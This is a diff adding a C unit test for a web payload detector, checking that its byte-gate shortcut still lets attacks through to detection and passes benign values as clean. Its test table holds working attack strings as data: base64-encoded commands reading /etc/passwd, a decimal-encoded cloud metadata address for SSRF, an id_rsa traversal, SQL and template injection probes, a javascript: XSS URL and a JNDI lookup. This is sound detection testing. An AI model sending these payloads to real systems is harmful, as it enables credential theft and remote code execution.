@@ -1,0 +1,83 @@
+/* test_payload_gate.c - payload.c skips a detector for a value that holds
+ * none of the bytes its findings need (the byte gates of run_detectors).
+ * Each case here is an attack found through the rarest opening of one
+ * gate: a gate drawn one byte too narrow makes it pass unseen. */
+#include <stdarg.h>
+#include <stddef.h>
+#include <setjmp.h>
+#include <stdint.h>
+#include <string.h>
+#include <cmocka.h>
+
+#include "collector/detect/payload.h"
+
+struct gate_case {
+	const char *in;
+	unsigned where;
+	enum payload_kind kind;
+	int score; /* as main's detectors scored it before the gates */
+	const char *why;
+};
+
+static const struct gate_case cases[] = {
+	/* traversal: a sensitive name whose only gate byte is '_' */
+	{"id_rsa", PAYLOAD_WHERE_QUERY, PAYLOAD_TRAVERSAL, 75, "sensitive file path"},
+	/* SSRF: 169.254.169.254 as one decimal number, no ':', '/', '.' */
+	{"2852039166", PAYLOAD_WHERE_QUERY, PAYLOAD_SSRF, 90, "metadata address as a value"},
+	{"  2852039166", PAYLOAD_WHERE_HEADER, PAYLOAD_SSRF, 90, "metadata address as a value"},
+	/* command injection wrapped in base64 without '=', '/' or '+': only
+	 * the base64 opening (a first digit below 32) lets it in */
+	{"Y2F0IC9ldGMvcGFzc3dk", PAYLOAD_WHERE_QUERY, PAYLOAD_CMDI, 75, "value is a command line"},
+	{"YHVuYW1lIC1hYA", PAYLOAD_WHERE_BODY, PAYLOAD_CMDI, 85, "command after shell separator"},
+	{"O2NhdCAvZXRjL3Bhc3N3ZA==", PAYLOAD_WHERE_QUERY, PAYLOAD_CMDI, 75, "command after shell separator"},
+	/* SQLi with no letter: the gate opens at '&' */
+	{"1 && 2=2", PAYLOAD_WHERE_BODY, PAYLOAD_SQLI, 80, "boolean tautology on literals"},
+	/* proto pollution through '_' only, SSTI through '{' and '*' */
+	{"__proto__", PAYLOAD_WHERE_QUERY, PAYLOAD_PROTO_POLLUTION, 90, "__proto__ as a property key"},
+	{"{{7*7}}", PAYLOAD_WHERE_QUERY, PAYLOAD_SSTI, 80, "arithmetic in template expression"},
+	/* XSS through ':' and '(' with no 'o', '<' or quote */
+	{"javascript:alert(1)", PAYLOAD_WHERE_QUERY, PAYLOAD_XSS, 80, "script url value"},
+	{"${jndi:ldap://x/a}", PAYLOAD_WHERE_HEADER, PAYLOAD_JNDI, 95, "jndi lookup"},
+};
+
+static void test_gates_let_attacks_through(void **st)
+{
+	(void)st;
+	payload_cache_enable(0);
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		struct payload_match m[PAYLOAD__COUNT];
+		int n = payload_scan(cases[i].in, strlen(cases[i].in), cases[i].where, m, PAYLOAD__COUNT);
+		int found = -1;
+
+		for (int k = 0; k < n; k++)
+			if (m[k].kind == cases[i].kind)
+				found = k;
+		if (found < 0)
+			fail_msg("%s: no %s finding", cases[i].in, payload_kind_names[cases[i].kind]);
+		assert_int_equal(m[found].score, cases[i].score);
+		assert_string_equal(m[found].why, cases[i].why);
+	}
+	payload_cache_enable(1);
+}
+
+/* values that open no gate at all still come out clean, and a benign
+ * word that opens some (a letter for SQLi) is judged clean too */
+static void test_closed_gates_are_clean(void **st)
+{
+	static const char *const clean[] = {"p37", "k12", "42", "select a plan", "GA1.2.3.4"};
+	struct payload_match m[PAYLOAD__COUNT];
+
+	(void)st;
+	for (size_t i = 0; i < sizeof(clean) / sizeof(clean[0]); i++)
+		for (unsigned w = PAYLOAD_WHERE_PATH; w <= PAYLOAD_WHERE_BODY; w++)
+			assert_int_equal(payload_scan(clean[i], strlen(clean[i]), w, m, PAYLOAD__COUNT), 0);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_gates_let_attacks_through),
+		cmocka_unit_test(test_closed_gates_are_clean),
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
